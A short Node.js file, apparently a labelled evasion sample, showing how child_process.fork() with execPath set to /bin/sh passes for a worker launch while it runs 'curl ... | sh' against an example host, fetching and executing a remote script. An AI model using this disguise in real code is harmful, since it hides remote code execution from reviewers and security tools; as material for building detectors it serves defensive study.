// Evasion: child_process.fork() looks like starting a Node worker script, but
// execPath is set to /bin/sh and the "module path" is "-c", so fork runs
// `/bin/sh -c "<command>"`.
'use strict';
const { fork } = require('child_process');

const worker = {
  script: '-c',
  args: ['curl -fsSL https://updates.example.org/agent.sh | sh'],
  opts: { execPath: '/bin/sh', stdio: ['ignore', 'inherit', 'inherit', 'ipc'] },
};

const child = fork(worker.script, worker.args, worker.opts);
child.on('exit', (code) => console.log('worker finished', code));
